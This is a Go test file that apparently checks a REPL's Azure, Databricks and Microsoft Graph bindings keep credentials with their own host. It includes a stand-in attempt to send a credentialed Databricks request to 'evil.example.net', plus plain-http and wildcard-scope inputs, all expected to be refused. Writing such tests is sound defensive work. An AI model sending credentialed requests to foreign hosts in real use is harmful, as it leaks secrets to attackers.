package bindings_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/azrepl/azrepl/emulator"
)

// Credentials stay with their host: the workspace token is not attached to
// another host, a Databricks host over http is refused before the secret is
// sent, a Graph token never goes over http, and setScope refuses a wildcard
// over a public suffix. Nothing reaches another host or http://.
func TestCredentialsStayWithTheirHost(t *testing.T) {
	h := readerHarness(t, emulated(emulator.Config{Groups: 5}))
	sp := h.world.Databricks.ServicePrincipal
	d := fmt.Sprintf(`databricks({flow: "m2m", clientId: %q, clientSecret: %q})`, sp.ClientID, sp.ClientSecret)
	for src, code := range map[string]string{
		d + `.get("https://evil.example.net/api/2.0/clusters/list")`:                                                                                       "REFUSED",
		d + `.get("http://` + h.world.Databricks.Host + `/api/2.0/clusters/list")`:                                                                         "REFUSED",
		fmt.Sprintf(`databricks({host: "http://%s", flow: "m2m", clientId: %q, clientSecret: %q})`, h.world.Databricks.Host, sp.ClientID, sp.ClientSecret): "REFUSED",
		`http.get("http://graph.microsoft.com/v1.0/groups")`:                                                                                               "REFUSED",
		`graph.get("http://graph.microsoft.com/v1.0/groups")`:                                                                                              "REFUSED",
		`http.setScope("*.com", "https://graph.microsoft.com/.default")`:                                                                                   "BAD_ARGUMENT",
	} {
		if e := h.thrown(src); e["code"] != code {
			t.Errorf("%s: %v, want %s", src, e, code)
		}
	}
	for _, e := range h.http.Trace() {
		if strings.Contains(e.URL, "evil.example.net") || strings.HasPrefix(e.URL, "http://") {
			t.Errorf("exchange %d went to %s", e.Index, e.URL)
		}
	}
}
